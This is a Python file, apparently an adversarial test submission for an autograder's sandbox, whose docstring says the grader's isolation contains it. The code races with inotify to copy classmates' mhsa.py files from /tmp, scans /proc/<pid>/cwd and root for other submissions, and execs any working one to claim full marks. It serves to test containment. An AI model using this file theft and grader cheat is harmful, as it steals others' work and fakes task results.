"""Attack: copy a classmate's file while the grader sets up its private folder. A process
of its own is told by inotify of every folder made in /tmp and tries the file inside at
once, in a tight loop; a thread reads everything else it can reach (other private
folders, /proc/<pid>/cwd, root, fd of every process). Whatever working code it finds, it
runs in place of its own: full marks, if it ever gets in.

Contained: uid mode makes each private folder and file with their final owner (a uid of
that submission's own) and modes before the folder holding them opens to anyone; the
jail has its own /tmp and PID namespace, where no classmate exists.
"""

import os
import threading
import time
from types import ModuleType
from typing import Any

import numpy as np

stolen: dict[str, Any] = {}
OWN = open(__file__).read()
BATCH = "MHSA_MARKER"  # the test marks this batch's files: graders of other batches on a
# shared machine (running older code) are not this attack's classmates


def try_code(path: str) -> None:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        text = os.read(fd, 1 << 20).decode("utf-8", "replace")
        os.close(fd)
    except OSError:
        return
    if "def multi_head_attention" not in text or "NotImplementedError" in text:
        return
    if BATCH not in text or text == OWN:
        return
    module = ModuleType("stolen")
    try:
        exec(compile(text, "stolen", "exec"), module.__dict__)
    except Exception:
        return
    if "module" not in stolen and os.getcwd() not in path:
        stolen["module"], stolen["from"] = module, path


def pounce() -> None:
    import ctypes
    import struct

    libc = ctypes.CDLL(None, use_errno=True)
    watch = libc.inotify_init()
    if watch < 0 or libc.inotify_add_watch(watch, b"/tmp", 0x100) < 0:  # IN_CREATE
        return
    while True:
        data = os.read(watch, 65536)
        while data:
            _, _, _, size = struct.unpack("iIII", data[:16])
            name = data[16 : 16 + size].rstrip(b"\0").decode("utf-8", "replace")
            data = data[16 + size :]
            path = os.path.join("/tmp", name, "work", "mhsa.py")
            end = time.monotonic() + 0.05
            while time.monotonic() < end:
                try:
                    fd = os.open(path, os.O_RDONLY)
                except OSError:
                    continue
                with open("stolen.py", "wb") as sink:
                    sink.write(os.read(fd, 1 << 20))
                os.close(fd)
                break


def roam() -> None:
    while "module" not in stolen:
        try_code("stolen.py")
        for name in os.listdir("/tmp"):
            try_code(os.path.join("/tmp", name, "work", "mhsa.py"))
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                for where in ("cwd/mhsa.py", "root/workdir/mhsa.py"):
                    try_code(f"/proc/{pid}/{where}")
        time.sleep(0.02)


if os.fork() == 0:
    try:
        pounce()
    finally:
        os._exit(0)
threading.Thread(target=roam, daemon=True).start()


def wait_for_loot() -> Any:
    time.sleep(0.5)  # the classmates are graded meanwhile
    if "module" in stolen:
        print("BREACH ran a classmate's file from " + stolen["from"])
        return stolen["module"]
    return None


def create_qkv(
    inputs: np.ndarray, weights_q: np.ndarray, weights_k: np.ndarray, weights_v: np.ndarray
) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    loot = wait_for_loot()
    if loot is not None:
        return loot.create_qkv(inputs, weights_q, weights_k, weights_v)  # type: ignore[no-any-return]
    junk = np.zeros(1)
    return junk, junk, junk


def scaled_dot_product_attention(
    Q: np.ndarray, K: np.ndarray, V: np.ndarray, scale: float
) -> np.ndarray:
    loot = wait_for_loot()
    if loot is not None:
        return loot.scaled_dot_product_attention(Q, K, V, scale)  # type: ignore[no-any-return]
    return np.zeros(1)


def multi_head_attention(
    inputs: np.ndarray,
    weights_q: np.ndarray,
    weights_k: np.ndarray,
    weights_v: np.ndarray,
    num_heads: int,
) -> np.ndarray:
    loot = wait_for_loot()
    if loot is not None:
        return loot.multi_head_attention(  # type: ignore[no-any-return]
            inputs, weights_q, weights_k, weights_v, num_heads
        )
    return np.zeros(1)
